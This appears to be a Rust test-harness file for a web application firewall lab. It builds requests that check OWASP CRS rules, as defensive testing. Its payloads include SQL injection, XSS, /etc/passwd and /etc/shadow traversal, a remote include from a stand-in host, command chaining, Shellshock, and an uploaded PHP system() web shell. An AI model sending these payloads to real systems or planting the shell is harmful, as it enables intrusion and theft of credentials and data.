//! The lab's request cases: benign, forced into the audit log, and attacks aimed at OWASP CRS
//! 3.3.4 rule families (SQLi, XSS, LFI, RFI, RCE, PHP, Java, scanners, protocol anomalies,
//! uploads, raw non-UTF-8 bytes, a large body, outbound leakage, IPv6, pipelining).  The name's
//! first word is its family, which `--cases` selects by prefix.

use super::modsec::FORCE_AUDIT_HEADER;

const BROWSER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const ACCEPT: &str = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";
/// Host header of every case but the numeric-host one (CRS 920350 fires on numeric hosts).
pub const HOST: &str = "www.example.test";

/// One case: a request (or raw bytes carrying several pipelined requests).
pub struct Case {
    pub name: &'static str,
    /// send to [::1] instead of 127.0.0.1
    pub ipv6: bool,
    pub method: &'static str,
    /// request target, raw bytes allowed
    pub target: Vec<u8>,
    /// extra or replacing headers (raw bytes allowed); a value of `None` drops a default header
    pub headers: Vec<(&'static str, Option<Vec<u8>>)>,
    pub body: Vec<u8>,
    pub version: &'static str,
    /// raw bytes sent instead of a built request, and how many responses they produce
    pub raw: Option<(Vec<u8>, usize)>,
}

impl Case {
    fn get(name: &'static str, target: &str) -> Case {
        Case { name, ipv6: false, method: "GET", target: target.as_bytes().to_vec(), headers: Vec::new(), body: Vec::new(), version: "HTTP/1.1", raw: None }
    }

    fn post(name: &'static str, target: &str, content_type: &str, body: Vec<u8>) -> Case {
        let mut case = Case::get(name, target);
        case.method = "POST";
        case.body = body;
        case.header("Content-Type", content_type.as_bytes())
    }

    fn header(mut self, name: &'static str, value: &[u8]) -> Case {
        self.headers.push((name, Some(value.to_vec())));
        self
    }

    fn without(mut self, name: &'static str) -> Case {
        self.headers.push((name, None));
        self
    }

    fn forced(self) -> Case {
        self.header(FORCE_AUDIT_HEADER, b"force")
    }

    /// Applies any other change (method, version, raw target).
    fn tap(mut self, change: impl FnOnce(&mut Case)) -> Case {
        change(&mut self);
        self
    }

    fn v6(mut self) -> Case {
        self.ipv6 = true;
        self
    }

    /// The request bytes; `host` is the default Host header.
    pub fn bytes(&self, host: &str) -> Vec<u8> {
        if let Some((raw, _)) = &self.raw {
            return raw.clone();
        }
        let mut headers: Vec<(&str, Vec<u8>)> = vec![
            ("Host", host.as_bytes().to_vec()),
            ("User-Agent", BROWSER_UA.as_bytes().to_vec()),
            ("Accept", ACCEPT.as_bytes().to_vec()),
            ("Accept-Language", b"en-US,en;q=0.5".to_vec()),
        ];
        for (name, value) in &self.headers {
            let existing = headers.iter().position(|(known, _)| known.eq_ignore_ascii_case(name));
            match (existing, value) {
                (Some(at), Some(value)) => headers[at].1 = value.clone(),
                (Some(at), None) => {
                    headers.remove(at);
                }
                (None, Some(value)) => headers.push((name, value.clone())),
                (None, None) => {}
            }
        }
        headers.push(("X-Lab-Case", self.name.as_bytes().to_vec()));
        if !self.body.is_empty() || self.method == "POST" {
            headers.push(("Content-Length", self.body.len().to_string().into_bytes()));
        }
        headers.push(("Connection", b"close".to_vec()));
        let mut out = Vec::new();
        out.extend_from_slice(self.method.as_bytes());
        out.push(b' ');
        out.extend_from_slice(&self.target);
        out.extend_from_slice(format!(" {}\r\n", self.version).as_bytes());
        for (name, value) in headers {
            out.extend_from_slice(name.as_bytes());
            out.extend_from_slice(b": ");
            out.extend_from_slice(&value);
            out.extend_from_slice(b"\r\n");
        }
        out.extend_from_slice(b"\r\n");
        out.extend_from_slice(&self.body);
        out
    }

    /// Number of responses the case produces.
    pub fn responses(&self) -> usize {
        self.raw.as_ref().map_or(1, |(_, count)| *count)
    }
}

/// `application/x-www-form-urlencoded` from pairs (values percent-encoded).
fn form(pairs: &[(&str, &str)]) -> Vec<u8> {
    pairs.iter().map(|(key, value)| format!("{key}={}", percent(value))).collect::<Vec<_>>().join("&").into_bytes()
}

/// Percent-encodes everything but unreserved characters.
pub fn percent(text: &str) -> String {
    text.bytes().map(|byte| if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) { (byte as char).to_string() } else { format!("%{byte:02X}") }).collect()
}

fn multipart(boundary: &str, parts: &[(&str, Option<&str>, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (name, filename, content) in parts {
        body.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"").as_bytes());
        if let Some(filename) = filename {
            body.extend_from_slice(format!("; filename=\"{filename}\"\r\nContent-Type: application/octet-stream").as_bytes());
        }
        body.extend_from_slice(b"\r\n\r\n");
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    body
}

/// Two attacks pipelined on one keep-alive connection.
fn pipelined(name: &'static str) -> Case {
    let first = format!(
        "GET /app/search?q={} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: {BROWSER_UA}\r\nAccept: */*\r\nX-Lab-Case: {name}#1\r\n\r\n",
        percent("<svg/onload=alert(7)>")
    );
    let second = format!(
        "GET /app/products?id={} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: {BROWSER_UA}\r\nAccept: */*\r\nX-Lab-Case: {name}#2\r\nConnection: close\r\n\r\n",
        percent("7 UNION SELECT card_number FROM payments")
    );
    let mut case = Case::get(name, "/");
    case.raw = Some(([first.into_bytes(), second.into_bytes()].concat(), 2));
    case
}

/// Every case, in sending order.
pub fn all() -> Vec<Case> {
    let boundary = "----labBoundary9fQ2xZ";
    let binary: Vec<u8> = (0..=255u8).cycle().take(3000).collect();
    let mut large = form(&[("notes", &"lorem.ipsum.dolor.sit.amet-".repeat(3700))]);
    large.extend_from_slice(b"&q=");
    large.extend_from_slice(percent("1' UNION SELECT username, password FROM users--").as_bytes());
    let multipart_type = format!("multipart/form-data; boundary={boundary}");
    vec![
        // benign: not logged (RelevantOnly), logged on demand, warning only
        Case::get("benign-home", "/"),
        Case::get("benign-missing-page", "/no/such/page.html"),
        Case::get("benign-forced", "/app/account?tab=profile").forced(),
        Case::get("benign-forced-ipv6", "/app/account?tab=orders").forced().v6(),
        Case::get("benign-local-warning", "/app/search?lab_warn=yes&q=shoes"),
        // SQL injection
        Case::get("sqli-union", &format!("/app/products?id={}", percent("1 UNION ALL SELECT name, password FROM users--"))),
        Case::post("sqli-tautology-form", "/app/login", "application/x-www-form-urlencoded", form(&[("user", "admin' OR '1'='1"), ("password", "x")])),
        Case::get("sqli-time-blind", &format!("/app/report?from={}", percent("2024-01-01' AND SLEEP(5)#"))),
        Case::get("sqli-cookie", "/app/cart").header("Cookie", b"session=1' or '1'='1; theme=dark"),
        Case::post("sqli-json-body", "/app/api/search", "application/json", br#"{"filter":"1 OR 1=1; DROP TABLE orders--","page":1}"#.to_vec()),
        Case::get("sqli-ipv6", &format!("/app/products?id={}", percent("2' OR 1=1--"))).v6(),
        // cross-site scripting
        // false positives: ordinary traffic of a blog, a JSON API and a cookie that CRS 3.3.4
        // PL1 takes for SQL injection (logged even once excluded, so the replay shows what
        // fired); no attack case shares their path and variable
        Case::post(
            "fp-blog-comment",
            "/app/blog/comment",
            "application/x-www-form-urlencoded",
            form(&[("name", "Alice"), ("comment", "Great post, we are having fun! I hear the union will select a new leader from its members.")]),
        )
        .forced(),
        Case::post(
            "fp-json-bio",
            "/app/api/profile",
            "application/json",
            br#"{"user":{"bio":"Shop steward. Every spring our union will select delegates from each local."}}"#.to_vec(),
        )
        .forced(),
        Case::get("fp-cookie-prefs", "/app/account/settings")
            .header("Cookie", b"sid=abc123; prefs=%7B%22filter%22%3A%22!archived%22%2C%22sort%22%3A%22-date%22%7D")
            .forced(),
        // an attack on the false positive's own path and variable: an exclusion of the other
        // rules must not let it through
        Case::post("sqli-blog-comment", "/app/blog/comment", "application/x-www-form-urlencoded", form(&[("name", "Eve"), ("comment", "1' OR '1'='1' --")])),
        Case::get("xss-script-tag", &format!("/app/search?q={}", percent("<script>alert(document.cookie)</script>"))),
        Case::post("xss-event-handler", "/app/comment", "application/x-www-form-urlencoded", form(&[("text", "<img src=x onerror=alert(1)>")])),
        Case::get("xss-referer", "/app/").header("Referer", b"http://www.example.test/\"><script>alert(1)</script>"),
        // local / remote file inclusion
        Case::get("lfi-etc-passwd", "/app/view?file=../../../../etc/passwd"),
        Case::get("lfi-encoded-traversal", "/app/view?page=..%2f..%2f..%2fetc%2fshadow"),
        Case::get("rfi-remote-include", &format!("/app/page?template={}", percent("http://198.51.100.7/shell.txt?"))),
        // command execution, PHP, Java
        Case::get("rce-command-chain", &format!("/app/ping?host={}", percent("127.0.0.1;cat /etc/passwd"))),
        Case::get("rce-shellshock", "/app/status").header("User-Agent", b"() { :; }; /bin/bash -c \"id\""),
        Case::get("php-code-injection", &format!("/app/?code={}", percent("<?php system($_GET['c']); ?>"))),
        Case::get("java-runtime-exec", &format!("/app/eval?expr={}", percent("java.lang.Runtime.getRuntime().exec(\"id\")"))),
        // scanners
        Case::get("scanner-nikto", "/app/").header("User-Agent", b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)"),
        Case::get("scanner-sqlmap", "/app/products?id=1").header("User-Agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)"),
        // protocol anomalies
        Case::get("protocol-numeric-host", "/app/").header("Host", b"127.0.0.1"),
        Case::get("protocol-missing-accept", "/app/feed").without("Accept").forced(),
        Case::get("protocol-method-not-allowed", "/app/items/7").tap(|case| case.method = "DELETE"),
        Case::get("protocol-http10-no-host", "/app/legacy").without("Host").tap(|case| case.version = "HTTP/1.0"),
        Case::get("protocol-bad-url-encoding", "/app/search?q=%zz%41"),
        // uploads, raw bytes, a large body
        Case::post(
            "upload-binary-file",
            "/app/upload",
            &multipart_type,
            multipart(boundary, &[("title", None, b"holiday"), ("photo", Some("photo.jpg"), &binary)]),
        )
        .forced(),
        Case::post("upload-php-shell", "/app/upload", &multipart_type, multipart(boundary, &[("file", Some("shell.php"), b"<?php system($_GET['c']); ?>")])),
        Case::get("encoding-non-utf8-query", "/").tap(|case| case.target = b"/app/search?q=caf\xe9&city=M\xfcnchen".to_vec()).forced(),
        Case::get("encoding-non-utf8-header", "/app/profile").header("X-Lab-Note", b"\xff\xfe caf\xe9 \x80").forced(),
        Case::post("large-form-body", "/app/notes", "application/x-www-form-urlencoded", large),
        // outbound (response) rules
        Case::get("leak-sql-error", "/app/leak/sql"),
        Case::get("leak-java-trace", "/app/leak/java"),
        // application statuses and the local blocking rule
        Case::get("app-server-error", "/app/status/500"),
        Case::get("app-unauthorized", "/app/status/401"),
        Case::get("local-block-406", "/app/search?lab_block=yes"),
        pipelined("keepalive-pipelined"),
    ]
}

/// The cases whose name starts with one of the comma-separated `prefixes` (all when `None`).
pub fn select(prefixes: Option<&str>) -> Result<Vec<Case>, String> {
    let cases = all();
    let Some(prefixes) = prefixes else { return Ok(cases) };
    let wanted: Vec<&str> = prefixes.split(',').map(str::trim).filter(|prefix| !prefix.is_empty()).collect();
    let chosen: Vec<Case> = cases.into_iter().filter(|case| wanted.iter().any(|prefix| case.name.starts_with(prefix))).collect();
    if chosen.is_empty() {
        return Err(format!("--cases {prefixes:?} selects no case (see `cargo xtask lab cases`)"));
    }
    Ok(chosen)
}

#[cfg(test)]
mod tests {
    use super::{HOST, all, select};

    #[test]
    fn names_are_unique_and_requests_well_formed() {
        let cases = all();
        assert!((30..=45).contains(&cases.len()));
        for (index, case) in cases.iter().enumerate() {
            assert!(cases[..index].iter().all(|other| other.name != case.name), "{}", case.name);
            let bytes = case.bytes(HOST);
            assert!(bytes.windows(4).any(|window| window == b"\r\n\r\n"), "{}", case.name);
        }
        assert_eq!(select(Some("sqli,xss")).unwrap().len(), 10);
        assert_eq!(select(Some("fp")).unwrap().len(), 3, "the false positives of the tuning scenarios");
        assert!(select(Some("nothing")).is_err());
    }
}
